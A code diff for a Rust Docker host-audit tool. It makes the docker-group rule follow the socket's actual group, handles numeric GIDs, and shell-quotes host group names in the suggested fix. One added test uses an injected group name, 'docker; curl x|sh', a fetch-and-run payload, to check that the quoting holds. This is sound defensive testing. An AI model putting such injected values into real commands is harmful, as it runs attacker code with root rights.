@@ -3,7 +3,7 @@
 
 use std::path::{Path, PathBuf};
 
-use super::{file_rules, Expect, Guard};
+use super::{file_rules, Expect, GroupSpec, Guard};
 use crate::audit::host::{Account, FileKind};
 use crate::audit::rules::{self, Context};
 use crate::audit::{Fix, Outcome, Severity};
@@ -73,7 +73,7 @@ pub fn run(cx: &Context<'_>) -> Vec<Outcome> {
             Expect {
                 kind: FileKind::Socket,
                 uid: 0,
-                group: Some(&group),
+                group: Some(GroupSpec::parse(&group)),
                 max_mode: 0o660,
                 guard: Guard::Socket,
             }
@@ -86,7 +86,20 @@ pub fn run(cx: &Context<'_>) -> Vec<Outcome> {
             expect,
         ));
     }
-    out.push(docker_group(cx, &group));
+    // Whoever may write to the socket is root-equivalent: the members of the group the socket
+    // really has (it may not be the configured one), else of the configured group.
+    let actual = sockets.iter().find_map(|s| {
+        cx.host
+            .stat(s)
+            .ok()
+            .flatten()
+            .filter(|st| st.kind == FileKind::Socket)
+    });
+    let spec = match actual {
+        Some(st) => GroupSpec::Gid(st.gid),
+        None => GroupSpec::parse(&group),
+    };
+    out.push(docker_group(cx, spec));
     out
 }
 
@@ -118,15 +131,27 @@ pub fn is_service_account(account: &Account, uid_min: u32) -> bool {
 
 /// The members of the socket's group: listed (info) when few and all people; high when more
 /// than the request's limit, or when a service account is among them.
-fn docker_group(cx: &Context<'_>, group: &str) -> Outcome {
+fn docker_group(cx: &Context<'_>, spec: GroupSpec<'_>) -> Outcome {
     let rule = &rules::DOCKER_GROUP;
     if cx.config.rootless {
         return Outcome::not_applicable(rule, "a rootless daemon's socket belongs to its user");
     }
-    let (found, members) = match cx.host.group_members(group) {
+    let group = spec.label(cx.host);
+    let name = match spec {
+        GroupSpec::Name(name) => Some(name.to_string()),
+        GroupSpec::Gid(gid) => cx.host.group_name(gid).ok().flatten(),
+    };
+    let found = match name {
+        Some(name) => cx.host.group_members(&name),
+        None => Ok(None),
+    };
+    let (found, members) = match found {
         Ok(Some(found)) => found,
         Ok(None) => {
-            return Outcome::not_applicable(rule, format!("there is no group {group}"));
+            return Outcome::not_applicable(
+                rule,
+                format!("there is no group {group} in /etc/group"),
+            );
         }
         Err(e) => {
             return Outcome::not_applicable(
@@ -156,8 +181,10 @@ fn docker_group(cx: &Context<'_>, group: &str) -> Outcome {
         .filter(|a| is_service_account(a, min))
         .collect();
     let limit = cx.request.docker_group_limit;
+    // The name comes from the host: quoted, as it would be typed.
+    let quoted = crate::text::shell_quote(&group);
     let fix = Fix::manual(format!(
-        "remove from group {group} everyone who does not need root (gpasswd -d USER {group}); \
+        "remove from group {quoted} everyone who does not need root (gpasswd -d USER {quoted}); \
          give remote users a client certificate instead (dockpki issue client)"
     ));
     if !services.is_empty() {
@@ -221,10 +248,105 @@ mod tests {
         tree.own(DEFAULT_SOCKET, OTHER, DOCKER_GID, 0o660);
         let out = tree.run(run);
         assert_eq!(severity(&out, rules::SOCKET_OWNER.id), Some(Severity::High));
-        // Owned by root but in another group: the benchmark's root:docker is not kept.
-        tree.own(DEFAULT_SOCKET, 0, OTHER, 0o660);
+        // Owned by root but in another group that may not write to it: the benchmark's
+        // root:docker is not kept, and nobody gains access by it.
+        tree.own(DEFAULT_SOCKET, 0, OTHER, 0o640);
         let out = tree.run(run);
         assert_eq!(severity(&out, rules::SOCKET_OWNER.id), Some(Severity::Low));
+    }
+
+    #[test]
+    fn a_socket_another_group_may_write_is_high_and_that_groups_members_are_judged() {
+        if !root_or_skip() {
+            return;
+        }
+        // alice is in docker, bob and jenkins in `other`, which the socket really has.
+        let tree = Tree::new(&["alice"]);
+        tree.file(
+            "/etc/group",
+            &format!("root:x:0:\nother:x:{OTHER}:bob,jenkins\ndocker:x:{DOCKER_GID}:alice\n"),
+            0,
+            0,
+            0o644,
+        );
+        let _socket = tree.socket(DEFAULT_SOCKET);
+        tree.own(DEFAULT_SOCKET, 0, OTHER, 0o660);
+        let out = tree.run(run);
+        assert_eq!(severity(&out, rules::SOCKET_OWNER.id), Some(Severity::High));
+        let group = out
+            .iter()
+            .find_map(|o| o.finding().filter(|f| f.id == rules::DOCKER_GROUP.id))
+            .expect("the socket's group judged");
+        assert_eq!(
+            group.severity,
+            Severity::High,
+            "jenkins is a service account"
+        );
+        assert!(
+            group.evidence.contains("jenkins") && !group.evidence.contains("alice"),
+            "{}",
+            group.evidence
+        );
+    }
+
+    #[test]
+    fn a_numeric_group_option_is_the_gid_dockerd_gives_the_socket() {
+        if !root_or_skip() {
+            return;
+        }
+        let tree = Tree::new(&["alice", "bob", "carol", "dave"]);
+        tree.file(
+            "/etc/docker/daemon.json",
+            &format!(r#"{{"group": "{DOCKER_GID}"}}"#),
+            0,
+            0,
+            0o644,
+        );
+        let out = tree.run(run);
+        // No socket in the tree: the configured group, by number, is the one whose members
+        // are listed.
+        assert_eq!(
+            severity(&out, rules::DOCKER_GROUP.id),
+            Some(Severity::High),
+            "{out:#?}"
+        );
+        let _socket = tree.socket(DEFAULT_SOCKET);
+        tree.own(DEFAULT_SOCKET, 0, DOCKER_GID, 0o660);
+        assert!(passed(&tree.run(run), rules::SOCKET_OWNER.id));
+    }
+
+    #[test]
+    fn a_group_name_from_the_host_is_quoted_in_the_fix() {
+        if !root_or_skip() {
+            return;
+        }
+        let tree = Tree::new(&[]);
+        tree.file(
+            "/etc/group",
+            "root:x:0:\ndocker; curl x|sh:x:4300:alice\n",
+            0,
+            0,
+            0o644,
+        );
+        tree.file(
+            "/etc/docker/daemon.json",
+            r#"{"group": "docker; curl x|sh"}"#,
+            0,
+            0,
+            0o644,
+        );
+        let out = tree.run(run);
+        let finding = out
+            .iter()
+            .find_map(|o| o.finding().filter(|f| f.id == rules::DOCKER_GROUP.id))
+            .expect("a finding");
+        let crate::audit::Fix::Manual { text } = &finding.fix else {
+            panic!("{:?}", finding.fix);
+        };
+        assert!(
+            text.contains("gpasswd -d USER 'docker; curl x|sh'"),
+            "{text}"
+        );
     }
 
     #[test]
